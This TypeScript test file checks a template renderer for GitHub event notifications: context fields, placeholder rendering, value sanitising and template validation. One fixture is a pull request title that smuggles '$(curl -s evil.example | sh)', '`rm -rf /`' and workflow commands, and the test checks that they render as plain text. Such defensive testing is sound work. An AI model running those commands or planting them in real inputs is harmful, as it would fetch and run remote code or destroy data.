import { describe, expect, test } from 'vitest'
import { describeEvent, type WardenEvent } from '../../src/core/event.ts'
import {
  MAX_TEMPLATE_VALUE_LENGTH,
  renderTemplate,
  TEMPLATE_PLACEHOLDERS,
  templateContextFor,
  templateProblems,
  templateValue,
  type TemplateContext,
} from '../../src/core/template.ts'
import { derivedPayload, realPayload } from './payloads.ts'

function contextOf(eventName: string, payload: unknown): TemplateContext {
  const event = describeEvent(eventName, payload)
  if ('unsupported' in event) throw new Error(event.reason)
  return templateContextFor(event)
}

const MERGED = contextOf('pull_request', derivedPayload('pull_request.closed.merged.json'))

describe('templateContextFor', () => {
  test('a merged pull request', () => {
    expect(MERGED).toEqual({
      event: 'pull_request.closed',
      action: 'closed',
      actor: 'Codertocat',
      url: 'https://github.com/Codertocat/Hello-World/pull/2',
      repository: 'Codertocat/Hello-World',
      ref: 'feature/proj-13-readme',
      sha: 'ec26c3e57ca3a959ca5aad62de7213c562f8c821',
      branch: 'master',
      environment: '',
      version: '',
      state: '',
      deployment: { ref: '', environment: '', state: '', sha: '', url: '' },
      pull_request: {
        number: '2',
        title: 'PROJ-12 Update the README with new information.',
        url: 'https://github.com/Codertocat/Hello-World/pull/2',
        head: 'feature/proj-13-readme',
        base: 'master',
      },
      release: { tag: '', name: '', url: '' },
    })
  })

  test.each<[string, string, unknown, Partial<TemplateContext>]>([
    [
      'a deployment',
      'deployment_status',
      realPayload('deployment_status', 1),
      {
        event: 'deployment_status',
        action: '',
        environment: 'github-pages',
        version: 'master',
        state: 'in_progress',
        deployment: {
          ref: 'master',
          environment: 'github-pages',
          state: 'in_progress',
          sha: 'f95f852bd8fca8fcc58a9a2d6c842781e32a215e',
          url: 'https://github.com/Codertocat/Hello-World/runs/145988746?check_suite_focus=true',
        },
        pull_request: { number: '', title: '', url: '', head: '', base: '' },
      },
    ],
    ['a release', 'release', realPayload('release', 0), { event: 'release.published', action: 'published', version: '0.0.1', release: { tag: '0.0.1', name: '', url: 'https://github.com/Codertocat/Hello-World/releases/tag/0.0.1' } }],
    ['a review', 'pull_request_review', derivedPayload('pull_request_review.submitted.approved.json'), { event: 'pull_request_review.submitted', state: 'approved', pull_request: { number: '2', title: 'Update the README with new information.', url: 'https://github.com/Codertocat/Hello-World/pull/2#pullrequestreview-237895671', head: 'changes', base: 'master' } }],
    ['a push', 'push', derivedPayload('push.branch-with-keys.json'), { event: 'push', ref: 'refs/heads/feature/PROJ-7-login', branch: 'feature/PROJ-7-login', release: { tag: '', name: '', url: '' } }],
  ])('%s', (_name, eventName, payload, expected) => {
    expect(contextOf(eventName, payload)).toMatchObject(expected)
  })

  test('every leaf of the context is a placeholder', () => {
    expect(TEMPLATE_PLACEHOLDERS).toHaveLength(24)
    expect(TEMPLATE_PLACEHOLDERS).toContain('deployment.ref')
    expect(TEMPLATE_PLACEHOLDERS).not.toContain('deployment')
  })
})

describe('renderTemplate', () => {
  test.each<[string, string]>([
    ['{{ event }} by {{ actor }}: {{ url }}', 'pull_request.closed by Codertocat: https://github.com/Codertocat/Hello-World/pull/2'],
    ['{{event}}/{{  pull_request.number  }}', 'pull_request.closed/2'],
    ['#{{ pull_request.number }} {{ pull_request.title }}', '#2 PROJ-12 Update the README with new information.'],
    ['[{{ nope }}] [{{ pull_request.nope }}] [{{ pull_request }}]', '[] [] []'],
    ['[{{ constructor }}] [{{ __proto__ }}] [{{ event.length }}]', '[] [] []'],
    ['[{{ event | upper }}] [{{ actor() }}] [{{ }}]', '[] [] []'],
    ['no placeholders at all', 'no placeholders at all'],
    ['{{ unclosed', '{{ unclosed'],
    ['}} {{ event }} {{', '}} pull_request.closed {{'],
    ['{{{ event }}}', '}'],
    ['line one\nline two: {{ actor }}', 'line one\nline two: Codertocat'],
  ])('%j', (template, expected) => {
    expect(renderTemplate(template, MERGED)).toBe(expected)
  })

  test('values are rendered once: placeholders inside a value stay literal', () => {
    const context = { ...MERGED, pull_request: { ...MERGED.pull_request, title: '{{ actor }} {{ url }}' } }
    expect(renderTemplate('{{ pull_request.title }}', context)).toBe('{{ actor }} {{ url }}')
  })

  test('a hostile title stays on one line, with workflow commands as plain text', () => {
    const context = contextOf('pull_request', derivedPayload('pull_request.opened.workflow-commands-in-title.json'))
    expect(renderTemplate('moved by {{ pull_request.title }}', context)).toBe(
      'moved by $(curl -s evil.example | sh) `rm -rf /` PROJ-1; ::add-mask::PROJ-2 && echo ::stop-commands::x ::error::boom PROJ-3 | tee',
    )
  })

  test('a 1 MB template of unclosed braces renders as written', () => {
    const template = '{{ x '.repeat(200_000)
    expect(renderTemplate(template, MERGED)).toBe(template)
  })
})

describe('templateValue', () => {
  test.each<[string, string]>([
    ['plain', 'plain'],
    ['two\nlines\r\nand\u2028more', 'two lines and more'],
    ['tab\tand\u0000nul', 'tab and nul'],
    ['  padded   and   spaced  ', 'padded and spaced'],
    ['bidi \u202eevil\u202c text', 'bidi evil text'],
  ])('%j → %j', (value, expected) => {
    expect(templateValue(value)).toBe(expected)
  })

  test.each<[string, number]>([
    ['a'.repeat(MAX_TEMPLATE_VALUE_LENGTH), MAX_TEMPLATE_VALUE_LENGTH],
    ['a'.repeat(MAX_TEMPLATE_VALUE_LENGTH + 1), MAX_TEMPLATE_VALUE_LENGTH],
    ['😀'.repeat(MAX_TEMPLATE_VALUE_LENGTH + 5), MAX_TEMPLATE_VALUE_LENGTH],
    ['b'.repeat(1024 * 1024), MAX_TEMPLATE_VALUE_LENGTH],
  ])('is capped at %#', (value, characters) => {
    const capped = templateValue(value)
    expect(Array.from(capped)).toHaveLength(characters)
    expect(capped.endsWith('…')).toBe(value.length > MAX_TEMPLATE_VALUE_LENGTH)
  })
})

describe('templateProblems', () => {
  test.each<[string, number]>([
    ['{{ event }} by {{ actor }}', 0],
    ['{{ release.tag }}-{{ deployment.ref }}', 0],
    ['{{ pull_request.titel }}', 1],
    ['{{ event | upper }} {{ nope }}', 2],
    ['no placeholders', 0],
  ])('%j has %d problem(s)', (template, count) => {
    expect(templateProblems(template)).toHaveLength(count)
  })

  test('unused events are fine: a missing value renders empty', () => {
    const event: WardenEvent = { trigger: 'push', condition: [], repository: { owner: 'o', repo: 'r' }, fromFork: false, notes: [] }
    expect(renderTemplate('[{{ release.tag }}][{{ actor }}]', templateContextFor(event))).toBe('[][]')
  })
})
